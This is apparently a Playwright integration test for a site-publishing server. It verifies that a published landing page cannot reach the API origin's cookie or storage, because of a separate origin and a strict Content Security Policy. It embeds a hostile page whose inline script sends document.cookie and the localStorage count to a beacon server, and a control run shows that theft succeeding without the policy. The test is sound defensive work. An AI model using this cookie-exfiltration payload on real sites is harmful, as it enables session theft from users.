import { once } from 'node:events';
import { mkdtempSync, rmSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { BrowserContext } from 'playwright-core';
import request from 'supertest';
import { DevTextApi } from '../../../../dev-servers/text-api';
import {
  CrossOriginPage,
  type PageSite,
} from '../../../support/cross-origin-page';
import { until } from '../../../support/pending-request';
import {
  findFreePort,
  startServer,
  type ServerProcess,
} from '../../../support/server-process';
import { fetchSite } from '../../../support/site-client';
import { pollUntil } from '../../../support/task-client';

/**
 * The sites origin holds nothing of the API's. The built server publishes
 * (with force, unchecked) a hostile landing page: an inline script that
 * reads the cookies and storage it can and sends them to a beacon, an
 * <img> and a stylesheet from the beacon. Opened in headless Chromium at
 * its site address (http://localhost:<SITES_PORT>, another host than the
 * API's 127.0.0.1) after the browser holds a cookie and localStorage of
 * the API's origin, the beacon hears nothing: the sites' CSP lets no
 * script run and nothing load from elsewhere, and the page's origin sees
 * neither the cookie nor the storage. The same published bytes served
 * without the policy from another origin reach the beacon (the control),
 * and no answer of the API or the sites origin sets a cookie.
 */

interface Beacon {
  url: string;
  hits: string[];
  close(): Promise<void>;
}

/** Records the path and query of every request it gets. */
async function startBeacon(): Promise<Beacon> {
  const hits: string[] = [];
  const server: Server = createServer((req, res) => {
    hits.push(req.url ?? '');
    res.writeHead(204, { 'Access-Control-Allow-Origin': '*' });
    res.end();
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    hits,
    close: async () => {
      server.closeAllConnections();
      server.close();
      await once(server, 'close');
    },
  };
}

const hostilePage = (beacon: string) => `<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>Hostile Harbor</title>
<link rel="stylesheet" href="${beacon}/style.css">
<script>new Image().src = '${beacon}/script?c=' + encodeURIComponent(document.cookie) + '&s=' + localStorage.length;</script>
</head><body><h1>Hostile Harbor</h1><img src="${beacon}/img.png" alt="A pixel"></body></html>`;

const API_COOKIE = 'api_session=k7Qm2xVb';
const STORAGE_KEY = 'api-token';
/** How long a page is given to run what it holds before the beacon is read. */
const SETTLE_MS = 500;

/** The little of the page's globals the evaluations below read. */
interface PageGlobals {
  document: { cookie: string };
  localStorage: { length: number; setItem(key: string, value: string): void };
}

describe('The sites origin holds nothing of the API (built server, headless Chromium)', () => {
  const cwd = mkdtempSync(join(tmpdir(), 'workspace-site-origin-'));
  const control: PageSite = {};
  /** Every answer of the API and the sites origin: where, and its Set-Cookie. */
  const answers: Array<{ what: string; setCookie: unknown }> = [];
  let beacon: Beacon;
  let texts: DevTextApi;
  let server: ServerProcess;
  let browser: CrossOriginPage;
  /** One browser profile for the whole suite: the API's cookie and storage stay in it. */
  let context: BrowserContext;
  let api: string;
  let siteUrl: string;
  let published: string;

  const record = <T extends request.Response>(what: string, answer: T) => {
    answers.push({ what, setCookie: answer.headers['set-cookie'] });
    return answer;
  };

  beforeAll(async () => {
    beacon = await startBeacon();
    texts = await DevTextApi.start();
    const sitesPort = await findFreePort();
    server = await startServer(
      {
        DATABASE_URL: `file:${join(cwd, 'workspace.db')}`,
        TEXT_API_KEY: 'sk-site-origin',
        TEXT_API_URL: texts.url,
        SITES_PORT: String(sitesPort),
        // Another host than the API's 127.0.0.1: no cookie of it is sent.
        SITES_BASE_URL: `http://localhost:${sitesPort}`,
      },
      { cwd },
    );
    api = server.baseUrl;
    // The control page's server answers the published bytes (set below).
    browser = await CrossOriginPage.open(control);
    context = await browser.page.context().browser()!.newContext();

    // The publish flow: a project, its landing page (the hostile one),
    // chosen, refused unchecked, then published with force.
    const created = record(
      'POST /api/projects',
      await request(api)
        .post('/api/projects')
        .send({ name: 'Hostile Harbor', userId: 'me' })
        .expect(201),
    );
    const projectId = (created.body as { project: { id: string } }).project.id;
    const runTask = async (type: string, input: Record<string, unknown>) => {
      const posted = record(
        `POST tasks ${type}`,
        await request(api)
          .post(`/api/projects/${projectId}/tasks`)
          .send({ type, input })
          .expect(202),
      );
      const taskId = (posted.body as { task: { id: string } }).task.id;
      const task = await pollUntil(
        async () =>
          record(
            `GET task ${type}`,
            await request(api)
              .get(`/api/projects/${projectId}/tasks/${taskId}`)
              .expect(200),
          ).body as { task: { status: string; assetIds: string[] } },
        (answer) =>
          ['SUCCEEDED', 'FAILED', 'CANCELLED'].includes(answer.task.status),
        300,
        100,
      );
      expect({ type, status: task.task.status }).toEqual({
        type,
        status: 'SUCCEEDED',
      });
      return task.task;
    };

    texts.replyNext({ kind: 'answer', content: hostilePage(beacon.url) });
    const page = await runTask('landing-page', {});
    const project = record(
      'GET project',
      await request(api).get(`/api/projects/${projectId}`).expect(200),
    ).body as { project: { sections: Array<{ id: string; type: string }> } };
    const code = project.project.sections.find((s) => s.type === 'CODE')!;
    record(
      'PUT selection',
      await request(api)
        .put(`/api/projects/${projectId}/sections/${code.id}/selection`)
        .send({ assetId: page.assetIds[0] })
        .expect(200),
    );
    const unchecked = record(
      'POST tasks publish (unchecked)',
      await request(api)
        .post(`/api/projects/${projectId}/tasks`)
        .send({ type: 'publish', input: { force: false } })
        .expect(409),
    );
    expect((unchecked.body as { code: string }).code).toBe('site_not_checked');
    await runTask('publish', { force: true });
    const site = record(
      'GET site',
      await request(api).get(`/api/projects/${projectId}/site`).expect(200),
    ).body as { site: { url: string } };
    siteUrl = site.site.url;
    expect(siteUrl).toBe(`http://localhost:${sitesPort}/${projectId}/`);
    const served = await fetchSite(siteUrl);
    answers.push({
      what: `GET ${siteUrl}`,
      setCookie: served.headers.get('set-cookie') ?? undefined,
    });
    expect(served.status).toBe(200);
    published = served.bytes.toString('utf8');
    control.html = published;
  }, 90_000);

  afterAll(async () => {
    await context?.close();
    await browser?.close();
    await server?.stop();
    await texts?.close();
    await beacon?.close();
    rmSync(cwd, { recursive: true, force: true });
  });

  /** Gives the browser a cookie and localStorage on the API's origin. */
  const holdApiState = async () => {
    await context.addCookies([
      {
        name: API_COOKIE.split('=')[0],
        value: API_COOKIE.split('=')[1],
        url: api,
      },
    ]);
    const apiPage = await context.newPage();
    try {
      const answer = await apiPage.goto(`${api}/health/live`);
      expect(answer?.headers()['set-cookie']).toBeUndefined();
      const held = await apiPage.evaluate((key) => {
        const page = globalThis as unknown as PageGlobals;
        page.localStorage.setItem(key, 'secret-of-the-api');
        return {
          cookie: page.document.cookie,
          stored: page.localStorage.length,
        };
      }, STORAGE_KEY);
      expect(held).toEqual({ cookie: API_COOKIE, stored: 1 });
    } finally {
      await apiPage.close();
    }
  };

  it('no answer of the API or the sites origin during the publish flow sets a cookie', () => {
    expect(answers.length).toBeGreaterThanOrEqual(8);
    expect(answers.filter((answer) => answer.setCookie !== undefined)).toEqual(
      [],
    );
  });

  it('the page was published as the model wrote it: its script, <img> and stylesheet point at the beacon', () => {
    expect(published).toContain(`new Image().src = '${beacon.url}/script?c='`);
    expect(published).toContain(`<img src="${beacon.url}/img.png"`);
    expect(published).toContain(`href="${beacon.url}/style.css"`);
  });

  it('the control: the same bytes served without the policy, on another origin, reach the beacon with the cookie they can read', async () => {
    await holdApiState();
    beacon.hits.length = 0;
    const page = await context.newPage();
    try {
      const answer = await page.goto(`${browser.origin}/control`);
      expect(answer?.status()).toBe(200);
      await until(
        () => beacon.hits.length >= 3,
        'the control page reaching the beacon three times',
      );
    } finally {
      await page.close();
    }
    const paths = beacon.hits.map((hit) => hit.split('?')[0]).sort();
    expect(paths).toEqual(['/img.png', '/script', '/style.css']);
    // Cookies do not keep to a port: 127.0.0.1's cookie is the control's too.
    const script = new URL(
      beacon.hits.find((hit) => hit.startsWith('/script'))!,
      beacon.url,
    );
    expect(script.searchParams.get('c')).toBe(API_COOKIE);
  });

  it('opened at its site address after the API origin holds a cookie and storage: nothing reaches the beacon, and the page sees neither', async () => {
    await holdApiState();
    beacon.hits.length = 0;
    const page = await context.newPage();
    const refusals: string[] = [];
    const siteAnswers: Array<{ url: string; setCookie?: string }> = [];
    page.on('console', (message) => {
      if (message.type() === 'error') refusals.push(message.text());
    });
    page.on('response', (response) => {
      siteAnswers.push({
        url: response.url(),
        setCookie: response.headers()['set-cookie'],
      });
    });
    try {
      const answer = await page.goto(siteUrl);
      expect(answer?.status()).toBe(200);
      expect(answer?.headers()['content-security-policy']).toContain(
        "default-src 'none'",
      );
      await page.waitForTimeout(SETTLE_MS);
      // Read by the test through the browser's debugging protocol, which
      // the page's policy does not govern: what a script there would see.
      const seen = await page.evaluate(() => {
        const globals = globalThis as unknown as PageGlobals;
        return {
          cookie: globals.document.cookie,
          stored: globals.localStorage.length,
        };
      });
      expect(seen).toEqual({ cookie: '', stored: 0 });
    } finally {
      await page.close();
    }
    expect(beacon.hits).toEqual([]);
    // The browser refused the script, the stylesheet and the image by the policy.
    expect(
      refusals.filter((text) => text.includes('Content Security Policy'))
        .length,
    ).toBeGreaterThanOrEqual(3);
    expect(siteAnswers.length).toBeGreaterThan(0);
    expect(siteAnswers.filter((answer) => answer.setCookie)).toEqual([]);
    const cookies = await context.cookies(siteUrl);
    expect(cookies).toEqual([]);
  });
});
